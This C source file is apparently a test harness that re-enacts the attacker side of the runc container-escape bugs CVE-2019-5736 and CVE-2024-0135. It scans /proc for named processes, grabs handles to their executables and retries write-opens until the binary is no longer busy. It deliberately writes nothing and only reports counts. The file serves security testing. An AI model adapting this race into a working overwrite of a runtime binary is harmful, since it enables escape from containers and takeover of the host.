// SPDX-License-Identifier: Apache-2.0
// The attacker of CVE-2019-5736 and CVE-2024-0135: opens the executables of processes that have one
// of the given names, for writing if it can, until a file `stop` appears. It writes nothing to
// them.
//
//   exe_spinner DIRECTORY NAME...      DIRECTORY/ready, stop and report
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static long seen, denied, held, written;

static int has_name(const char* pid, char** names) {
  char path[300], comm[32] = "";
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  const ssize_t length = read(fd, comm, sizeof comm - 1);
  close(fd);
  if (length > 0) comm[length - 1] = '\0';
  for (; *names != NULL; ++names) {
    if (strncmp(comm, *names, 15) == 0) return 1;  // the kernel keeps 15 characters
  }
  return 0;
}

/// While it runs nobody can write it; who has opened it waits until it has ended.
static void wait_and_open(int held_fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd);
  for (int i = 0; i < 3000; ++i) {
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      ++written;
      close(fd);
      return;
    }
    if (errno != ETXTBSY) return;
    usleep(1000);
  }
}

static void attack(const char* pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ++seen;
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    if (errno == EACCES || errno == EPERM) ++denied;
    return;
  }
  ++held;
  wait_and_open(fd);
  close(fd);
}

static void touch(const char* name) {
  const int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) close(fd);
}

int main(int argc, char** argv) {
  if (argc < 3 || chdir(argv[1]) != 0) return 2;
  touch("ready");
  while (access("stop", F_OK) != 0) {
    DIR* processes = opendir("/proc");
    if (processes == NULL) return 3;
    for (struct dirent* entry; (entry = readdir(processes)) != NULL;) {
      if (isdigit((unsigned char)entry->d_name[0]) && has_name(entry->d_name, argv + 2)) {
        attack(entry->d_name);
      }
    }
    closedir(processes);
  }
  FILE* report = fopen("partial", "we");
  if (report == NULL) return 3;
  fprintf(report, "{\"seen\":%ld,\"denied\":%ld,\"held\":%ld,\"written\":%ld}\n", seen, denied,
          held, written);
  fclose(report);
  return rename("partial", "report") == 0 ? 0 : 3;
}
